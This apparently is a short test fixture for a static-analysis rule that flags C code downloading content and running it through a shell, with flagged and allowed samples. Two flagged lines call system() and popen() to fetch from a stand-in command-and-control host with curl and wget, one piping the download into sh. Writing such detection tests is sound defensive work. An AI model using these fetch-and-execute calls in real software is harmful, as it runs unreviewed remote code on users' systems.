// ruleid: c-downloads-with-shell
  system("curl -s https://c2.invalid/x | sh");
// ruleid: c-downloads-with-shell
  popen("wget -qO- https://c2.invalid", "r");
// ok: c-downloads-with-shell
  system("clear");
// ok: c-downloads-with-shell
  printf("curl failed");
